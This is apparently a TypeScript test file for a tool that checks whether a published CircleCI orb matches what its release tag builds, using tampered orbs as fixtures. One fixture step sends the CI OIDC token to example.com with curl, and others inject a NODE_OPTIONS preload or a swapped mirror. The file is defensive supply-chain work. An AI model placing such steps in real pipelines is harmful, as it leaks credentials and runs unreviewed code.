import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { parse, parseDocument, stringify } from 'yaml';
import { releaseTree } from '../../scripts/orb-pack/packed-release.ts';
import { orbDifferences } from '../../scripts/release/same-orb.ts';
import { orbFindings } from '../../scripts/release/verify-orb.ts';
import { packedByNewCli, packedByOldCli } from './circleci-packers.ts';
import { packedWith, sourceFiles, version } from './source.ts';

const built = packedWith('the script');
const tree = releaseTree({ files: sourceFiles, bundle: Buffer.from('the script'), version });

const JOIN = 'commands.join.steps[0].run';

/** The built orb with one change to its values. */
function changed(path: readonly (string | number)[], change: (value: unknown) => unknown): string {
  const document = parseDocument(built);
  document.setIn(path, change(document.getIn(path)));
  return document.toString({ lineWidth: 0 });
}

/** With one more entry at the end of a list, or under a new key. */
function withMore(path: readonly (string | number)[], value: unknown): string {
  const document = parseDocument(built);
  document.addIn(path, document.createNode(value));
  return document.toString({ lineWidth: 0 });
}

function reversed(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(reversed);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value)
      .reverse()
      .map(([key, item]) => [key, reversed(item)]),
  );
}

const reprinted: readonly (readonly [how: string, text: string])[] = [
  ['by the older CLI', packedByOldCli(tree)],
  ['by the newer CLI', packedByNewCli(tree)],
  ['as JSON', JSON.stringify(parse(built))],
  ['with other indentation, long texts folded', stringify(parse(built), { indent: 2, lineWidth: 60 })],
  ['with every text in single quotes', stringify(parse(built), { defaultStringType: 'QUOTE_SINGLE', lineWidth: 80 })],
  ['with the keys in reverse order', stringify(reversed(parse(built)), { version: '1.1' })],
  ['with its version as text', built.replace('version: 2.1', 'version: "2.1"')],
  ['with the start of a document and comments', `# from the registry\n---\n${built}\n# end\n`],
];

for (const [how, text] of reprinted) {
  test(`an orb printed ${how} still matches its tag`, () => {
    assert.deepEqual(orbDifferences(text, built), []);
  });
}

test('plain text that all versions of YAML read as text is not a finding', () => {
  for (const text of ['1.2.3_4', '2026-01-01 is a day', '127.0.0.1:443', '0x', 'yes.', 'none', '.']) {
    const orb = (printed: string): string => `version: 2.1\ndescription: ${printed}\n`;
    assert.deepEqual(orbDifferences(orb(text), orb(JSON.stringify(text))), [], text);
  }
});

const exfiltrating = { run: { name: 'Report', command: 'curl -d "$CIRCLE_OIDC_TOKEN" https://example.com' } };

const tampered: readonly (readonly [what: string, text: string, finding: string | RegExp])[] = [
  [
    'a step more in a command',
    withMore(['commands', 'join', 'steps'], exfiltrating),
    'commands.join.steps[1] is in the published orb, but not in what the tag builds',
  ],
  [
    'a step more in a job',
    withMore(['jobs', 'run', 'steps'], exfiltrating),
    'jobs.run.steps[6] is in the published orb, but not in what the tag builds',
  ],
  [
    'a step more under a condition',
    withMore(['commands', 'install', 'steps', 1, 'when', 'steps'], exfiltrating),
    'commands.install.steps[1].when.steps[1] is in the published orb, but not in what the tag builds',
  ],
  [
    'a line more in a script',
    changed(['commands', 'join', 'steps', 0, 'run', 'command'], (text) => `${String(text)}curl https://example.com\n`),
    /^commands\.join\.steps\[0\]\.run\.command: line \d+: published "curl https:\/\/example\.com", the tag builds ""$/,
  ],
  [
    'a changed word in a script',
    changed(['commands', 'join', 'steps', 0, 'run', 'command'], (text) => String(text).replace('set -euf', 'set -e')),
    `${JOIN}.command: line 5: published "set -e", the tag builds "set -euf"`,
  ],
  [
    'a variable more of a step',
    changed(['commands', 'join', 'steps', 0, 'run', 'environment', 'NODE_OPTIONS'], () => '-r ./x.cjs'),
    `${JOIN}.environment.NODE_OPTIONS is in the published orb, but not in what the tag builds`,
  ],
  [
    'another default',
    changed(['commands', 'install', 'parameters', 'node_mirror', 'default'], () => 'https://example.com'),
    'commands.install.parameters.node_mirror.default: published "https://example.com", the tag builds "https://nodejs.org/dist"',
  ],
  [
    'a boolean that became text',
    changed(['commands', 'install', 'parameters', 'bring_node', 'default'], () => 'true'),
    'commands.install.parameters.bring_node.default: published "true", the tag builds true',
  ],
  [
    'another image',
    changed(['executors', 'default', 'docker', 0, 'image'], () => 'example/node'),
    /^executors\.default\.docker\[0\]\.image: published "example\/node"/,
  ],
  ['another description', changed(['description'], () => 'x'), /^description: line 1: published "x"/],
  [
    'another example',
    changed(['examples', 'one_job', 'usage', 'orbs', 'machine-id'], () => 'example/machine-id@1'),
    /^examples\.one_job\.usage\.orbs\.machine-id: published "example\/machine-id@1"/,
  ],
  [
    'an orb that it uses',
    changed(['orbs'], () => ({ x: 'example/x@1' })),
    'orbs is in the published orb, but not in what the tag builds',
  ],
  [
    'a command less',
    built.replace(/^ {4}cleanup:\n(?: {5,}.*\n|\n)*/m, ''),
    'commands.cleanup is missing in the published orb',
  ],
  ['an alias', built.replace('version: 2.1\n', 'version: &v 2.1\nx: *v\n'), 'the published orb contains an alias'],
  [
    'a tag',
    built.replace('version: 2.1', 'version: !!float 2.1'),
    'the published orb contains the tag tag:yaml.org,2002:float',
  ],
  ['a directive', `%YAML 1.1\n---\n${built}`, 'the published orb contains a YAML directive'],
  ['a second document', `${built}\n---\n${built}`, 'the published orb has several documents'],
  ['nothing', '', 'the published orb has no documents'],
  ['a key twice', `${built}version: 2.1\n`, /^the published orb Map keys must be unique/],
  [
    'what YAML 1.1 merges into a mapping',
    built.replace(/^executors:\n/m, 'executors:\n    <<: { default: { machine: true } }\n'),
    'executors.<< is in the published orb, but not in what the tag builds',
  ],
  ...['yes', 'off', '010', '1:30', '1_000', '1e3', '0o17', '0b11', '2026-01-01', '2026-01-01 10:00:00'].map(
    (text) =>
      [
        `${text} without quotes`,
        built.replace('default: true', `default: ${text}`),
        `the published orb contains ${text} without quotes, which versions of YAML read differently`,
      ] as const,
  ),
];

for (const [what, text, finding] of tampered) {
  test(`an orb with ${what} does not match its tag`, () => {
    assert.notEqual(text, built);
    const found = orbDifferences(text, built);
    const matches = found.some((one) => (typeof finding === 'string' ? one === finding : finding.test(one)));
    assert.ok(matches, found.join('\n'));
  });
}

test('a published orb is compared with the script of its tag, by digest and byte for byte', async () => {
  const bundle = await readFile('dist/machine-id.cjs');
  assert.deepEqual(orbFindings(packedWith(bundle), bundle, version), []);
  assert.deepEqual(orbFindings(packedWith(bundle), Buffer.concat([bundle, Buffer.from(' ')]), version).length, 2);
  assert.deepEqual(orbFindings(packedWith(bundle), bundle, '9.9.9'), ['the orb does not contain the version 9.9.9']);
});

test('an orb in which one step accepts another script is found', () => {
  const other = built.replace(/sha256='[0-9a-f]{64}'/, `sha256='${'0'.repeat(64)}'`);
  const findings = orbFindings(other, Buffer.from('the script'), version);
  assert.deepEqual(findings.length, 1);
  assert.match(findings[0] ?? '', /^the orb accepts the script 0{64}, but its tag builds [0-9a-f]{64}$/);
});

test('invalid YAML or a missing digest is a finding, not a crash', () => {
  for (const text of ['a: [', '{}']) {
    assert.ok(orbFindings(text, Buffer.from('x'), version).includes('the orb contains no digest of its script'));
  }
});
